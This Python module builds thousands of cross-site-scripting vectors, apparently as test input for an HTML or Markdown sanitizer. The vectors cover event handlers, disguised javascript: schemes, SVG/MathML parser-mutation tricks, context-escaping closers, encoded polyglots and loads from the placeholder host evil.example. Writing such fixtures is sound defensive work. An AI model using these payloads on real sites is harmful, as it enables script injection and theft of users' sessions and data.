"""Texts by which others have run a script in a page, or made it load something, as far as they are known.

Each vector calls `xss(NUMBER)`, or loads something from `evil.example`. They are made of parts, since the tricks
are few and can be put together in many ways: elements with handlers, addresses with schemes in disguise, what
HTML, SVG and MathML parse differently (mutation), ways out of the place where a text stands, Markdown.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from functools import cache
from itertools import product

EVIL = "evil.example"
JS = "xss(0)"
"""What a vector runs; the `0` is made its number."""

HANDLERS = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough
change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop
durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange
input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown
mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause
play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate
pointerup popstate progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked
seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle
touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart
unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel
""".split()

CARRIERS = ("<a href=# on{h}={js}>a</a>", '<img src=/i.png alt="" on{h}="{js}">', "<p\non{h}='{js}'>a</p>")
"""Elements that texts may have, with what they may not."""

AT_ONCE = '''
<script>{js}</script>|<ScRiPt>{js}</sCrIpT>|<script >{js}</script >|<script\t>{js}</script\t>|<script/x>{js}</script>
<script src=//evil.example/0.js></script>|<script src="data:text/javascript,{js}"></script>|<script type=module>{js}</script>
<script type=text/javascript>{js}</script>|<script>/*<!--*/{js}//--></script>|<script><!--{js}\n--></script>
<script>{js}|<script>{js}<b>|<<script>{js}//<</script>|<scr<script>ipt>{js}</scr</script>ipt>|<script\x0c>{js}</script>
<script x="</script><script>{js}</script>|<script>`${{js}}`</script>|<script nomodule>{js}</script>
<img src=x onerror={js}>|<img src onerror={js}>|<img/src=x/onerror={js}>|<img\tsrc=x\tonerror={js}>|<img\nsrc=x\nonerror={js}>
<img\x0csrc=x\x0conerror={js}>|<IMG SRC=x ONERROR={js}>|<img src=x onerror='{js}'>|<img src=x onerror="{js}"
<img src=x onerror=`{js}`>|<img src=x oNeRrOr={js}>|<img """><script>{js}</script>">|<img src=x:x onerror={js}>
<img src='1' onerror\t=\n{js}>|<img src=x onerror=&#120;ss(0)>|<img src=x onerror="&#x78;&#x73;&#x73;(0)">
<img src=x onerror=\\u0078ss(0)>|<img src=x onerror=eval(atob('eHNzKDAp'))>|<img src=x onerror=window['x'+'ss'](0)>
<img src=x onerror=xss`0`>|<img src=x onerror="javascript:{js}">|<img title="a" src=x onerror={js} title="b">
<image src=x onerror={js}>|<image href=x onerror={js}>|<img src=x id=a name=a onerror={js}>|<img src=x alt=`<` onerror={js}>
<svg onload={js}>|<svg/onload={js}>|<svg onload={js}//|<svg\x0bonload={js}>|<svg onload="{js}"></svg>|<svg><svg onload={js}>
<svg><script>{js}</script></svg>|<svg><script>xss&#40;0)</script></svg>|<svg><script href="data:,{js}"/></svg>
<svg><script xlink:href=//evil.example/0.js /></svg>|<svg><image href=x onerror={js}></svg>|<svg><g onload={js}></g></svg>
<svg><animate onbegin={js} attributeName=x dur=1s>|<svg><set onbegin={js} attributeName=x>|<svg><animatetransform onbegin={js}>
<svg><animatemotion onbegin={js} dur=1s>|<svg><discard onbegin={js}>|<svg><animate onend={js} attributeName=x dur=1ms>
<svg><a><animate attributeName=href values=javascript:{js} /><text x=20 y=20>a</text></a>
<svg><a xlink:href=javascript:{js}><text y=20>a</text></a>|<svg><a href=javascript:{js}><rect width=9 height=9 /></a>
<svg><set attributeName=href to=javascript:{js}></svg>|<svg><use href="data:image/svg+xml,<svg id=x onload={js}>#x"/></svg>
<svg><foreignObject><iframe onload={js}></foreignObject></svg>|<svg><foreignObject><body onload={js}></svg>
<svg><style><img src=x onerror={js}></style></svg>|<svg><title><img src=x onerror={js}></title></svg>
<svg><desc><img src=x onerror={js}></desc></svg>|<svg><p><style><g title="</style><img src=x onerror={js}>">
<svg></p><style><a id="</style><img src=1 onerror={js}>">|<svg><![CDATA[><img src=x onerror={js}>]]></svg>
<svg><?xml-stylesheet href="javascript:{js}"?></svg>|<?xml version="1.0"?><svg onload={js} xmlns="http://www.w3.org/2000/svg"/>
<svg><handler type=text/javascript ev:event=load>{js}</handler></svg>|<svg><feImage href=//evil.example/0.svg /></svg>
<svg><image href=//evil.example/0.png /></svg>|<svg><use href=//evil.example/0.svg#x /></svg>|<svg><filter><feImage xlink:href=x onerror={js} /></filter></svg>
<math><maction actiontype=statusline xlink:href=javascript:{js}>a</maction></math>|<math href=javascript:{js}>a</math>
<math><mtext><script>{js}</script></mtext></math>|<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>
<math><mi><img src=x onerror={js}></mi></math>|<math><style><img src=x onerror={js}></style></math>
<math><x xlink:href=javascript:{js}>a|<math><mrow href=javascript:{js}><mi>a</mi></mrow></math>
<body onload={js}>|<body onpageshow={js}>|<body onhashchange={js}>|<body background=//evil.example/0.png>|<html onload={js}>
<frameset onload={js}>|<frameset><frame onload={js}>|<iframe onload={js}></iframe>|<iframe src=javascript:{js}></iframe>
<iframe srcdoc="<script>parent.{js}</script>"></iframe>|<iframe srcdoc="&lt;script&gt;parent.{js}&lt;/script&gt;">
<iframe/src="data:text/html,<script>{js}</script>">|<iframe src=//evil.example/0></iframe>|<iframe src="about:blank" onload={js}>
<object data=javascript:{js}>|<object data="data:text/html,<script>{js}</script>">|<object onerror={js} data=x>|<object data=//evil.example/0>
<embed src=javascript:{js}>|<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">|<embed onload={js} src=/>
<applet code=//evil.example/0.class>|<applet onerror={js}>|<portal src=//evil.example/0>|<fencedframe src=//evil.example/0>
<video onerror={js}><source></video>|<video src=x onerror={js}>|<video><source onerror={js}></video>|<video poster=//evil.example/0.png>
<video src=//evil.example/0.mp4 autoplay>|<audio src=x onerror={js}>|<audio src onloadstart={js}>|<audio src=//evil.example/0.mp3 preload=auto>
<video><track onerror={js} src=x default></video>|<video controls oncanplay={js}>|<picture><source srcset=//evil.example/0.png><img></picture>
<img src=//evil.example/0.png>|<img srcset="//evil.example/0.png 1x">|<img src=/i.png srcset="//evil.example/0.png 9x">|<img lowsrc=//evil.example/0.png>
<img dynsrc=//evil.example/0.png>|<input type=image src=//evil.example/0.png>|<input type=image src=x onerror={js}>
<input autofocus onfocus={js}>|<input onblur={js} autofocus><input autofocus>|<select autofocus onfocus={js}>|<textarea autofocus onfocus={js}>
<button autofocus onfocus={js}>|<keygen autofocus onfocus={js}>|<a tabindex=1 autofocus onfocus={js}>|<p contenteditable autofocus onfocus={js}>
<details open ontoggle={js}>|<details/open/ontoggle={js}>|<details open><summary ontoggle={js}>|<dialog open onclose={js}>
<marquee onstart={js}>|<marquee loop=1 width=0 onfinish={js}>|<meter onmouseover={js}>0</meter>|<progress value=1 onmouseover={js}>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart={js}>|<p style="animation:x 1s" onanimationend={js}>
<p style="transition:all 1s" ontransitionend={js}>|<xss onclick={js} tabindex=1>a</xss>|<x contenteditable onblur={js}>a</x>
<form action=javascript:{js}><button>a</button></form>|<form><button formaction=javascript:{js}>a</button></form>|<isindex action=javascript:{js} type=image>
<form action=//evil.example/0 id=f><input name=q></form>|<form id=f onsubmit={js}><input autofocus></form>|<input form=f formaction=javascript:{js} type=submit>
<meta http-equiv=refresh content="0;url=javascript:{js}">|<meta http-equiv=refresh content="0;url=//evil.example/0">|<meta http-equiv=set-cookie content=a=b>
<meta http-equiv=refresh content="0;data:text/html,<script>{js}</script>">|<meta charset=utf-7>|<meta http-equiv=content-security-policy content="script-src *">
<base href=//evil.example/>|<base href=javascript:/a/-{js}//>|<base target=_blank>|<link rel=stylesheet href=//evil.example/0.css>
<link rel=stylesheet href="data:,*{background:url(//evil.example/0.png)}">|<link rel=stylesheet href=javascript:{js}>|<link rel=import href=//evil.example/0>
<link rel=prefetch href=//evil.example/0>|<link rel=preload as=image href=//evil.example/0.png>|<link rel=preconnect href=//evil.example>
<link rel=dns-prefetch href=//evil.example>|<link rel=modulepreload href=//evil.example/0.js>|<link rel=icon href=//evil.example/0.ico>|<link rel=prerender href=//evil.example/0>
<link onload={js} rel=stylesheet href=/assets/x.css>|<link onerror={js} rel=stylesheet href=x>|<link rel=manifest href=//evil.example/0>
<style>@import '//evil.example/0.css';</style>|<style>*{background:url(//evil.example/0.png)}</style>|<style onload={js}></style>
<style>@font-face{font-family:a;src:url(//evil.example/0.woff)}*{font-family:a}</style>|<style>*{x:expression({js})}</style>|<style>@import'javascript:{js}';</style>
<style>*{-moz-binding:url(//evil.example/0.xml#x)}</style>|<style>*{list-style-image:url("javascript:{js}")}</style>|<style><!--</style><script>{js}//--></script>
<p style="background:url(//evil.example/0.png)">a</p>|<p style="background:url(javascript:{js})">a</p>|<p style="x:expression({js})">a</p>|<p style="-moz-binding:url(//evil.example/0#x)">a</p>
<p style="behavior:url(//evil.example/0.htc)">a</p>|<p style='b\\61 ckground:url(//evil.example/0.png)'>a</p>|<p style="background:\\75rl(//evil.example/0.png)">a</p>
<p style="/*x*/background/**/:/**/url(//evil.example/0.png)">a</p>|<p style="cursor:url(//evil.example/0.cur),auto">a</p>|<p style="content:image-set('//evil.example/0.png' 1x)">a</p>
<p style="border-image:url(//evil.example/0.png)">a</p>|<p style="mask:url(//evil.example/0.svg#a)">a</p>|<p style="position:fixed;inset:0">a</p>
<table background=//evil.example/0.png><tr><td>a</table>|<table><td background=//evil.example/0.png>a</table>|<table background=javascript:{js}>
<bgsound src=//evil.example/0.mid>|<layer src=//evil.example/0>|<ilayer src=//evil.example/0>|<xml src=//evil.example/0>|<comment><img src=x onerror={js}></comment>
<template><script>{js}</script></template>|<template shadowrootmode=open><img src=x onerror={js}></template>|<slot onslotchange={js}>a</slot>
<noscript><p title="</noscript><img src=x onerror={js}>">|<noembed><p title="</noembed><img src=x onerror={js}>">|<noframes><p title="</noframes><img src=x onerror={js}>">
<xmp><p title="</xmp><img src=x onerror={js}>">|<plaintext><img src=x onerror={js}>|<listing>&lt;img src=x onerror={js}&gt;</listing>|<textarea><p title="</textarea><img src=x onerror={js}>">
<title><p title="</title><img src=x onerror={js}>">|<iframe><p title="</iframe><img src=x onerror={js}>">|<select><option><script>{js}</script></select>
<!--><img src=x onerror={js}>-->|<!-- --!><img src=x onerror={js}>|<!--[if gte IE 4]><script>{js}</script><![endif]-->|<!-- <img title="--><img src=x onerror={js}>">
<!-\x00-><img src=x onerror={js}>|<!--#exec cmd="id"--><img src=x onerror={js}>|<![<!--]]<script>{js}//--!></script>|<!DOCTYPE x [<!ENTITY a "<img src=x onerror={js}>">]>&a;
<? foo="><script>{js}</script>">|<! foo="><script>{js}</script>">|</ foo="><script>{js}</script>">|<% foo><x foo="%><script>{js}</script>">
<a href="#" style=x:expression({js})>a</a>|<a ping=//evil.example/0 href=#>a</a>|<a href=//a target=_blank onclick={js}>a</a>|<a href=# download onfocus={js} autofocus>a</a>
<map><area href=javascript:{js} shape=default></map>|<img usemap=#a><map name=a><area onfocus={js} autofocus></map>|<label for=x onclick={js}>a
<q cite=javascript:{js}>a</q>|<blockquote cite=javascript:{js}>a</blockquote>|<del cite=javascript:{js}>a</del>|<ins cite=javascript:{js}>a</ins>
<img longdesc=javascript:{js}>|<input type=hidden oncontentvisibilityautostatechange={js} style=content-visibility:auto>|<p oncontentvisibilityautostatechange={js} style=content-visibility:auto>
<button popovertarget=x>a</button><p popover id=x onbeforetoggle={js}>|<p popover id=x ontoggle={js}>|<a href=# onbeforematch={js} hidden=until-found>
<p id=x tabindex=1 onfocusin={js}>|<p is=x onload={js}>|<p xmlns="javascript:{js}">|<p itemprop=x onerror={js}>|<p data-x="><img src=x onerror={js}>">
<html xmlns:x="javascript:{js}">|<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>|<set attributeName=onload to={js}>|<animate onbegin={js}>
<div><a href=javascript:{js}>a</div>|<b onmouseover={js}><i>a</b></i>|<table><tr><p onclick={js}><td>a|<p><table><img src=x onerror={js}>|<li><ol><img src=x onerror={js}>
<form id=location href=javascript:{js}>|<a id=document><a id=document name=cookie href=javascript:{js}>|<img name=body><img name=getElementById>|<form name=self><input name=parent>
'''

CLOSERS = ("", '"', "'", "`", '">', "'>", '"/>', "-->", "]]>", "--!>", "</title>", "</textarea>", "</style>")
CLOSERS += (
    "</script>",
    "</noscript>",
    "</p>",
    "</a>",
    "</h1>",
    "</template>",
    '\\">',
    "*/</script>",
    '"}]}</script>',
    "?>",
)
CLOSERS += (
    "&quot;>",
    "\u2028",
    "&gt;",
    "%22%3E",
    "</ld+json>",
    "<!--",
    "<!--<script>",
    "{{",
    "{%",
    "';",
    '";',
    "${",
    "//\n",
    ")",
    "]",
    "</svg>",
)
PAYLOADS = (
    "<img src=x onerror={js}>",
    "<script>{js}</script>",
    "<svg onload={js}>",
    " autofocus tabindex=1 onfocus={js} x=",
    " onmouseover={js} ",
    "{js}",
    "{{ {js} }}",
    "<img src=//evil.example/0.png>",
)

PLACES = (
    '<a href="{u}">a</a>',
    "<a href='{u}'>a</a>",
    "<a href={u}>a</a>",
    '<img src="{u}" alt="">',
    "[a]({u})",
    "[a](<{u}>)",
    "![a]({u})",
    "[a][r]\n\n[r]: {u}",
    "<{u}>",
)
SCRIPT = "javascript:{js}"
SCHEMES = (
    SCRIPT,
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "\tjavascript:{js}",
    "\njavascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java\rscript:{js}",
    "javascript\t:{js}",
    "\x01javascript:{js}",
    "\x0bjavascript:{js}",
    "\x1fjavascript:{js}",
    "\u00a0javascript:{js}",
    "\u2028javascript:{js}",
    "\ufeffjavascript:{js}",
    "\u200bjavascript:{js}",
    "java\u00adscript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript:{js}",
    "&#0000106avascript:{js}",
    "&#x6Aavascript:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "javascript&#x3a{js}",
    "java&Tab;script:{js}",
    "java&NewLine;script:{js}",
    "java&#9;script:{js}",
    "java&#x0A;script:{js}",
    "&#1;javascript:{js}",
    "&nbsp;javascript:{js}",
    "javascript%3A{js}",
    "%6Aavascript:{js}",
    "java\\script:{js}",
    "java\\u0073cript:{js}",
    "javascript://evil.example/%0A{js}",
    "javascript://https://a.example/%0d{js}",
    "javascript:/*http://a.example/*/{js}",
    "jav/**/ascript:{js}",
    "x:javascript:{js}",
    "feed:javascript:{js}",
    "view-source:javascript:{js}",
    "jar:javascript:{js}",
    "vbscript:msgbox(0)",
    "VbScRiPt:msgbox(0)",
    "livescript:{js}",
    "mocha:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,{b64}",
    "data:;base64,{b64}",
    "data:image/svg+xml,<svg onload={js}>",
    "DATA:text/html;charset=utf-8,%3Cscript%3E{js}%3C/script%3E",
    "data&colon;text/html,<script>{js}</script>",
    "blob:https://a.example/0",
    "filesystem:https://a.example/0",
    "file:///etc/passwd",
    "about:blank#{js}",
    "intent:#Intent;S.x={js};end",
    "ws://evil.example/0",
    "ftp://evil.example/0",
    '//evil.example/0" onerror={js} x="',
    'x" onerror="{js}',
    "x' onerror='{js}",
    "x` onerror=`{js}",
    'x" onerror={js} a="',
    "javascript&#x0000000000000000000000000003A;{js}",
    "javas&#99ript:{js}",
    "\u017fcript:{js}",
    "ｊａｖａｓｃｒｉｐｔ:{js}",
    "javascript\uff1a{js}",
    "jаvascript:{js}",
    "./javascript:{js}",
    "?javascript:{js}",
)

MARKDOWN = r"""
[a](https://a.example "x" onmouseover={js})|[a](https://a.example 'x" onmouseover="{js}')|[a](https://a.example "&quot; onclick=&quot;{js}")
[a](https://a.example" onclick="{js})|[a](https://a.example' onclick='{js})|![x" onerror="{js}](/i.png)|![x' onerror='{js}](/i.png)|![x](/i.png "a\" onerror=\"{js}")
[<img src=x onerror={js}>](https://a.example)|[a](https://a.example/<img src=x onerror={js}>)|[`<img src=x onerror={js}>`](https://a.example)
`<img src=x onerror={js}>`|``` <script>{js}</script>|```html" onclick="{js}¬<b>¬```|~~~ { .a onclick={js} }¬b¬~~~|    <script>{js}</script>
a{: onclick={js} }|a{: onclick="{js}" id="x" }|# a {: onclick={js} }|# a {#x" onclick="{js}"}|*a*{: style="x:expression({js})" }|[a](/x){: href="javascript:{js}" }
![a](/i.png){: src=x onerror={js} }|[a](https://a.example){: target=_blank onclick={js} }|# <img src=x onerror={js}>|## "><script>{js}</script>|<h2 id='"><img src=x onerror={js}>'>
*[HTML]: "><img src=x onerror={js}>¬¬HTML|*[a]: x" onmouseover="{js}¬¬a|[^1]¬¬[^1]: <img src=x onerror={js}>|[^"><img src=x onerror={js}>]¬¬[^"><img src=x onerror={js}>]: a
[^x" onclick="{js}]¬¬[^x" onclick="{js}]: a|a¬:   <img src=x onerror={js}>|a | b¬--|--¬<img src=x onerror={js}> | "><script>{js}</script>
> <img src=x onerror={js}>|- <img src=x onerror={js}>|1. <svg onload={js}>|***<img src=x onerror={js}>***|\<img src=x onerror={js}>|\\<img src=x onerror={js}>
<div markdown=1>¬<img src=x onerror={js}>¬</div>|<div markdown="1" onclick={js}>¬a¬</div>|<p markdown=span onclick={js}>*a*</p>|<div markdown=block>¬[a](javascript:{js})¬</div>
<https://a.example/" onclick={js}>|<a@b.example" onclick={js}>|<mailto:a@b.example?body=<script>{js}</script>>|<javascript:{js}>|<data:text/html,{js}>
[a]: javascript:{js}¬¬[a]|[a]: <javascript:{js}> "x"¬¬[a][]|[a]:¬ javascript:{js}¬¬[a]|[x]: https://a.example "a\" onclick=\"{js}"¬¬[x]|[a]( javascript:{js} )|[a](java¬script:{js})
![][r]¬¬[r]: //evil.example/0.png|![a](//evil.example/0.png)|![a](https://evil.example/0.png)|![a](<//evil.example/0.png>)|[![a](javascript:{js})](javascript:{js})|[[a](javascript:{js})](x)
&lt;img src=x onerror={js}&gt;|&#60;img src=x onerror={js}&#62;|&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;|&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;|\&lt;script\&gt;{js}
&LT;script&GT;{js}&LT;/script&GT;|&ltscript&gt{js}&lt/script&gt|<scr\0ipt>{js}</scr\0ipt>|<scr&#105;pt>{js}</script>|<*script*>{js}</script>|<b_onclick={js}>a_b</b>
STX0 klzzwxh:0000<img src=x onerror={js}>|wzxhzdk:0<script>{js}</script>|{{{{ {js} }}}}|{{% raw %}}{js}|<%= {js} %>|#{ {js} }|${ {js} }|$\{{js}\}|[[{js}]]|{@html '<img src=x onerror={js}>'}
"""

ENCODED = """
+ADw-script+AD4-{js}+ADw-/script+AD4-|%3Cscript%3E{js}%3C/script%3E|%253Cscript%253E{js}%253C/script%253E|\\u003cscript\\u003e{js}\\u003c/script\\u003e|\\x3cscript\\x3e{js}\\x3c/script\\x3e
\\74script\\76{js}\\74/script\\76|\uff1cscript\uff1e{js}\uff1c/script\uff1e|\u02c2script\u02c3{js}|\u2039script\u203a{js}|\u3008img src=x onerror={js}\u3009|<\u017fcript>{js}</\u017fcript>
<scr\u0131pt>{js}</scr\u0131pt>|<\u212aeygen autofocus onfocus={js}>|<\u0131mg src=x onerror={js}>|<im\u200bg src=x onerror={js}>|<\ufeffscript>{js}</script>|<\u00a0script>{js}</script>
\u202e>{js}<tpircs\u202c|\u2066<script>{js}</script>\u2069|<script\u2028>{js}</script>|<img src=x\u00a0onerror={js}>|<img src=x\u3000onerror={js}>|<img src=x\u180eonerror={js}>|<img\u0085src=x\u0085onerror={js}>
\ufffd<img src=x onerror={js}>|\u00bcscript\u00be{js}\u00bc/script\u00be|\u3c73cript>{js}|=?utf-8?B?PHNjcmlwdD4=?={js}|\x1b$B<img src=x onerror={js}>\x1b(B|~{<img src=x onerror={js}>~}
\u00ef\u00bb\u00bf<script>{js}</script>|\u0100\u0130\u0307<img src=x onerror={js}>|\U000e003cscript\U000e003e{js}|a\u0301<img src=x onerror={js}>|\u1e9e<svg onload={js}>|<\u2044script>{js}
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk={js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>\\x3e
'">><marquee><img src=x onerror={js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={js}><script>{js}</script>@gmail.com<isindex formaction=javascript:{js} type=submit>'-->"></script><script>{js}</script>
" onclick={js}//<button ' onclick={js}//> */ {js}//|';{js}//';{js}//";{js}//";{js}//--></script>">'><script>{js}</script>|javascript://'/</title></style></textarea></script>--><p" onclick={js}//>*/{js}/*
"""

OUTER = ("math", "svg")
POINTS = ("mtext", "mi", "ms", "annotation-xml encoding=text/html", "foreignObject", "desc", "title")
BETWEEN = ("", "<table>", "<mglyph>", "<malignmark>", "<form>", "</p>", "<table><mglyph>", "<select><option>")
RAW = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script", "template")
ENDS = (
    '<a title="</{raw}><img src=x onerror={js}>">',
    '<!--</{raw}><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
)
TWISTS = (
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={js}&gt;">',
    "<math><mtext><table><mglyph><style><math>CLICKME</math><img src=x onerror={js}></style>",
    "<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>",
    '<svg><desc><svg><image><a><desc><svg><image></image></svg></desc></a></image><style><a id="</style><img src=x onerror={js}>"></style>',
    '<p><svg><style><!--</style><a id="--><img src=x onerror={js}>">',
    "<noscript><style></noscript><img src=x onerror={js}>",
    "<b><noscript><a alt='</noscript><img src=x onerror={js}>'>",
    "<table><caption><svg><title><table><style><a id='</style><img src=x onerror={js}>'>",
    "<math><annotation-xml><svg><style><!--</style><a title='--><img src=x onerror={js}>'>",
    "<ul><li><form><input name=attributes><input name=nodeName></form><img src=x onerror={js}>",
    "<a><a><b></a><form><a><img src=x onerror={js}>",
    "<select><iframe></select><img src=x onerror={js}>",
    "<svg><a><![CDATA[<img title=']]><img src=x onerror={js}>'>",
    "<math><![CDATA[<a title=']]><img src=x onerror={js}>'>]]></math>",
    "<div><template><p></template><s><template><s><img src=x onerror={js}>",
    "<dl><dt><svg></dt><style><p title='</style><img src=x onerror={js}>'>",
    "<abbr title='</abbr><img src=x onerror={js}>'>a</abbr>",
    "<p title=`<img src=x onerror={js}>`>a</p>",
    "<p title='``onmouseover={js}'>a</p>",
    "<time datetime='\"><img src=x onerror={js}>'>a</time>",
    "<ol start='1\"><img src=x onerror={js}>'><li>a</ol>",
    "<td colspan='2\"><img src=x onerror={js}>'>a</td>",
    "<td align='left\" onclick={js} x=\"'>a</td>",
    "<p id='x\" onclick={js} y=\"'>a</p>",
    "<p lang='x\" onclick={js} y=\"'>a</p>",
    "<p dir='ltr\" onclick={js} y=\"'>a</p>",
    "<div class='note\" onclick={js} y=\"'>a</div>",
    "<a hreflang='x\" onclick={js} y=\"' href=#>a</a>",
    "<img width='1\" onerror={js} y=\"' src=/i.png>",
)  # fmt: skip


def _listed(text: str) -> Iterator[str]:
    """The vectors of a table: a line has several, with `|` between; `¬` stands for the end of a line."""
    for line in text.strip("\n").split("\n"):
        yield from (part.replace("¬", "\n") for part in line.split("|") if part.strip())


def _patterns() -> Iterator[str]:
    yield from _listed(AT_ONCE)
    yield from (carrier.replace("{h}", handler) for handler, carrier in product(HANDLERS, CARRIERS))
    yield from (closer + payload for closer, payload in product(CLOSERS, PAYLOADS))
    yield from (place.replace("{u}", scheme) for place, scheme in product(PLACES, SCHEMES))
    yield from (
        f"<{outer}><{point}>{between}<{raw}>{end.replace('{raw}', raw)}"
        for place, (outer, point, between, raw, end) in enumerate(product(OUTER, POINTS, BETWEEN, RAW, ENDS))
        if place % 7 == 0  # a seventh of two thousand; 7 and the lengths have no divisor in common
    )
    yield from _listed(MARKDOWN)
    yield from _listed(ENCODED)
    yield from TWISTS


@cache
def vectors() -> tuple[str, ...]:
    """All vectors, each once; the one at place N calls `xss(N)` or loads something called N."""
    patterns = dict.fromkeys(_patterns())
    made = []
    for number, pattern in enumerate(patterns):
        call = JS.replace("0", str(number))
        code = base64.b64encode(f"<script>{call}</script>".encode()).decode()
        filled = pattern.replace("{js}", call).replace("{b64}", code).replace("(0)", f"({number})")
        made.append(filled.replace("`0`", f"`{number}`").replace(f"{EVIL}/0", f"{EVIL}/{number}"))
    return tuple(made)
